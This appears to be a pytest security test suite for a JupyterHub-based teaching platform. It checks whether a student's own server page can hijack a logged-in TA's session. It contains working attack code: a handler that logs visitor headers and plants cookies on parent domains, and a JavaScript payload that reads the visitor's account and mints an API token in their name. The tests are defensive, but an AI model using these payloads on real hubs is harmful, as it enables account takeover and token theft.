"""A page by which a student attacks whoever opens it: with one host name for all, and with one for each user.

The student owns the server that shows it, so nothing of ours stands between the page and its visitor
but the browser's rules about origins.
"""

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass

import docker
import pytest
from docker.models.containers import Container
from installation import Installation, new_installation
from machineroom_hub.hub_api import HubApi
from machineroom_spawners import names
from playwright.sync_api import Browser, BrowserContext, Page, expect

from .conftest import run

CONFIG = "/home/jovyan/.jupyter/jupyter_server_config.py"
SERVER = """
import json, sys, types
from tornado.web import RequestHandler

class Trap(RequestHandler):
    def get(self):
        with open("/home/jovyan/.seen", "a") as seen:
            print(json.dumps(dict(self.request.headers)), file=seen)
        for name in self.get_arguments("plant"):
            above = self.get_argument("at")
            self.add_header("Set-Cookie", f"{name}=planted; Path=/; Secure; Domain=.{above}")
        self.write("<h1>Look at my homework!</h1>")

trap = types.ModuleType("trap")
trap.default_handlers = [("/trap", Trap)]
sys.modules["trap"] = trap
c.ServerApp.extra_services = ["trap"]
"""
"""A Jupyter server's configuration, which its owner may write: a page for everybody, without a login."""

STEAL = """async ([hub, visitor]) => {
    const took = {}, tokens = `/hub/api/users/${visitor}/tokens`, body = '{"note": "stolen"}'
    const attempt = async (name, act) => {
        try { took[name] = String(await act()) } catch (error) { took[name] = "refused: " + error.name }
    }
    const call = (path, options) => fetch(hub + path, {credentials: "include", ...options})
    await attempt("page", async () => (await call("/hub/token")).text())
    const xsrf = (/xsrf_token: "([^"]+)"/.exec(took.page) || [])[1] || "none"
    const headers = {"Content-Type": "application/json", "X-XSRFToken": xsrf}
    await attempt("user", async () => (await call("/hub/api/user", {headers})).text())
    await attempt("service", async () => (await call("/services/machineroom/")).text())
    await attempt("token", async () => {
        const made = await call(tokens, {method: "POST", headers, body})
        return (await made.json()).token
    })
    // without a look at the answer, what other sites may send too
    await attempt("blind", () => call(tokens + "?_xsrf=none", {method: "POST", mode: "no-cors", body}))
    return took
}"""


ROOT_SHELL = """async base => {
    const xsrf = /_xsrf=([^;]+)/.exec(document.cookie)[1]
    const made = await fetch(base + "api/terminals", {method: "POST", headers: {"X-XSRFToken": xsrf}})
    const socket = new WebSocket(location.origin + base + "terminals/websocket/" + (await made.json()).name)
    return await new Promise((resolve, reject) => {
        let seen = ""
        socket.onerror = () => reject(new Error("the websocket was refused"))
        socket.onmessage = message => {
            const [kind, text] = JSON.parse(message.data)
            if (kind === "setup") socket.send(JSON.stringify(["stdin", "id; exit\\r"]))
            seen += kind === "stdout" ? text : ""
            if (kind === "disconnect") resolve(seen)
        }
    })
}"""
"""A terminal, as JupyterLab would open it."""


@dataclass
class Trap:
    """Chen's page on an installation, and tariq, a TA who is logged in there and opens it."""

    installation: Installation
    hub: HubApi
    workspace: Container
    tariq: Page
    origin: str

    def steal(self) -> dict[str, str]:
        """What the page gets when tariq opens it."""
        self.tariq.goto(f"{self.origin}/user/chen/trap")
        expect(self.tariq.locator("h1")).to_have_text("Look at my homework!")
        took: dict[str, str] = self.tariq.evaluate(STEAL, [self.installation.url, "tariq"])
        return took

    def told(self) -> list[dict[str, str]]:
        """The headers of every request that chen's server got."""
        status, said = run(self.workspace, "cat /home/jovyan/.seen", "jovyan")
        assert status == 0, said
        return [json.loads(line) for line in said.splitlines()]

    def tokens(self) -> list[str]:
        """Ids of the tokens that were made in tariq's name by the page."""
        made = self.hub.call("GET", "/users/tariq/tokens").json()["api_tokens"]
        return [token["id"] for token in made if token["note"] == "stolen"]


def log_in(page: Page, installation: Installation, name: str, to: str) -> Page:
    page.goto(f"{installation.url}/hub/login?next={to}")
    page.get_by_label("Username").fill(name)
    page.get_by_label("Password").fill(installation.passwords[name])
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(lambda url: "/hub/login" not in url)
    return page


def serve(hub: HubApi, wanted: bool) -> None:
    """Have chen's server run, or not."""
    deadline = time.monotonic() + 400
    if bool(hub.call("GET", "/users/chen").json()["servers"]) != wanted:
        hub.call("POST" if wanted else "DELETE", "/users/chen/server")
    while True:
        server = hub.call("GET", "/users/chen").json()["servers"].get("", {})
        if bool(server) == wanted and server.get("ready", not wanted):
            return
        assert time.monotonic() < deadline, f"chen's server: {server}"
        time.sleep(0.3)


def laid(
    installation: Installation, engine: docker.DockerClient, context: BrowserContext, origin: str
) -> Iterator[Trap]:
    """Chen configures the server, and starts it again."""
    hub = HubApi(installation.room)
    name = f"mr-{installation.room.id}-w-{names.slug('chen')}"
    serve(hub, True)
    try:
        written = f"mkdir -p $(dirname {CONFIG}); cat >{CONFIG} <<'END'\n{SERVER}\nEND"
        assert run(engine.containers.get(name), written, "jovyan")[0] == 0
        serve(hub, False)
        serve(hub, True)
        tariq = log_in(context.new_page(), installation, "tariq", "/hub/token")
        trap = Trap(installation, hub, engine.containers.get(name), tariq, origin)
        yield trap
        for token in trap.tokens():
            hub.call("DELETE", f"/users/tariq/tokens/{token}")
    finally:
        run(engine.containers.get(name), f"rm -f {CONFIG} /home/jovyan/.seen", "jovyan")
        serve(hub, False)


@pytest.fixture(scope="module")
def one_name(installation: Installation, engine: docker.DockerClient, browser: Browser) -> Iterator[Trap]:
    """The installation as it is by default."""
    with browser.new_context() as context:
        yield from laid(installation, engine, context, installation.url)


@pytest.fixture(scope="module")
def own_names(engine: docker.DockerClient, browser: Browser) -> Iterator[Trap]:
    """One that was started with `--subdomains`. Browsers know that names below localhost are this host."""
    with new_installation(subdomains="room.localhost") as installation, browser.new_context() as context:
        origin = installation.url.replace("//", "//chen.")
        yield from laid(installation, engine, context, origin)


def test_with_one_name_a_page_acts_for_its_visitor(one_name: Trap) -> None:
    """As docs/security.md says and `doctor` warns: nobody shall be told that this is safe."""
    took = one_name.steal()
    assert '"name": "tariq"' in took["user"]
    assert len(took["token"]) >= 32
    assert len(one_name.tokens()) == 1


def test_with_names_of_their_own_a_page_gets_nothing(own_names: Trap) -> None:
    took = own_names.steal()
    assert {name for name, what in took.items() if not what.startswith("refused: ")} == {"blind"}
    assert own_names.tokens() == []
    assert own_names.tariq.evaluate("document.cookie") == ""
    kept = {cookie["name"]: cookie["value"] for cookie in own_names.tariq.context.cookies()}
    login = kept["__Host-jupyterhub-hub-login"]
    for headers in own_names.told():
        assert not {"Authorization", "X-Xsrftoken"} & set(headers)
        assert login not in headers.get("Cookie", "")
        sent = {c.partition("=")[0].strip() for c in headers.get("Cookie", "").split(";")}
        assert sent <= {"", "jupyterhub-session-id"}, "by itself a session's number opens nothing"


def test_with_names_of_their_own_no_cookie_is_planted(own_names: Trap) -> None:
    """A page may set cookies for the names above its own, which the hub would take for its own."""
    at = own_names.origin.partition("//chen.")[2].partition(":")[0]
    names = ("__Host-jupyterhub-hub-login", "__Host-machineroom", "jupyterhub-hub-login", "machineroom")
    query = "&".join([f"at={at}", *(f"plant={name}" for name in names)])
    tariq = own_names.tariq
    tariq.goto(f"{own_names.origin}/user/chen/trap?{query}")
    there = [c for c in tariq.context.cookies() if c["value"] == "planted"]
    assert {c["name"] for c in there} == {"jupyterhub-hub-login", "machineroom"}, "what the browser takes"
    tariq.goto(f"{own_names.installation.url}/services/machineroom/")
    expect(tariq.get_by_text("Log out tariq")).to_be_visible()
    tariq.context.clear_cookies(name="jupyterhub-hub-login", domain=f".{at}")
    tariq.context.clear_cookies(name="machineroom", domain=f".{at}")


def test_with_names_of_their_own_everything_works(own_names: Trap, browser: Browser) -> None:
    """Lab, a root shell, the machine's web pages and the service, each logged in to by itself."""
    url = own_names.installation.url
    with browser.new_context() as context:
        page = log_in(context.new_page(), own_names.installation, "chen", "/hub/")
        page.wait_for_url(f"{own_names.origin}/user/chen/lab**")
        expect(page.locator("#jp-MainMenu")).to_be_visible(timeout=120_000)
        shell = page.evaluate(ROOT_SHELL, "/user/chen/")
        assert "uid=0(root)" in shell
        page.goto(f"{own_names.origin}/user/chen/proxy/box:22/")
        assert "port 22 of box" in page.content(), "which is asked, and speaks no HTTP"
        page.goto(f"{url}/hub/home")
        page.get_by_role("button", name="Services").click()
        page.get_by_role("link", name="machineroom").click()
        expect(page.get_by_role("link", name="Open my notebook")).to_be_visible()
        page.get_by_role("link", name="Open my notebook").click()
        page.wait_for_url(f"{own_names.origin}/user/chen/lab**")
